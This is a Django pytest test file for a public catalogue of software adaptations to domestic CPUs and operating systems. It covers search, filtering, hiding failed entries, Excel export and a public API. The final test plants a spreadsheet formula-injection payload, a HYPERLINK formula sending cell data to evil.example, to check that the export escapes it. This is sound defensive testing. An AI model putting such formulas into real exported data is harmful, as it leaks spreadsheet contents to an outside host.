"""The PK 实施清单 catalogue: public, searchable, exportable; only passing adaptations."""

from __future__ import annotations

import pytest
from django.test import Client
from django.urls import reverse

from policyhub.registry.reader import read_table
from tests.centres.helpers import adaptation

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _records() -> None:
    adaptation("星盾防火墙", vendor="长沙星盾", cpu="FT-2000+/64", os="kylin-v10-server")
    adaptation("湘安OA", vendor="长沙湘安", category="application", cpu="D2000")
    adaptation("未过软件", vendor="某公司", result="failed")


def test_anyone_can_search_the_catalogue_without_logging_in() -> None:
    page = Client().get(reverse("centres_adaptation:catalogue"), {"q": "湘安"})
    html = page.content.decode()
    assert page.status_code == 200 and "湘安OA" in html and "星盾防火墙" not in html


def test_it_filters_by_cpu_and_os_and_hides_failures() -> None:
    html = Client().get(reverse("centres_adaptation:catalogue"),
                        {"cpu": "FT-2000+/64", "os": "kylin-v10-server"}).content.decode()
    assert "星盾防火墙" in html and "湘安OA" not in html
    assert "未过软件" not in Client().get(reverse("centres_adaptation:catalogue")).content.decode()


def test_the_export_is_an_excel_of_the_search() -> None:
    response = Client().get(reverse("centres_adaptation:catalogue-export"), {"cpu": "D2000"})
    assert response.status_code == 200
    table = read_table(response.content, "c.xlsx", width=20)
    assert table.header[0] == "产品名称" and [r[0] for _, r in table.rows] == ["湘安OA"]


def test_the_catalogue_api_is_public() -> None:
    rows = Client().get("/api/v1/centres/adaptation/catalogue", {"q": "星盾"}).json()
    assert [r["product"] for r in rows] == ["星盾防火墙"]
    assert rows[0]["cpu"] == "FT-2000+/64" and rows[0]["os_label"].startswith("银河麒麟")
    assert "organisation" not in rows[0]


def test_the_export_quotes_a_product_name_a_spreadsheet_would_run() -> None:
    import io

    from openpyxl import load_workbook

    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    adaptation(evil, vendor="某公司", cpu="D2000")
    response = Client().get(reverse("centres_adaptation:catalogue-export"), {"q": "HYPERLINK"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cell = sheet.cell(row=2, column=1)
    assert cell.value == "'" + evil and cell.data_type == "s"
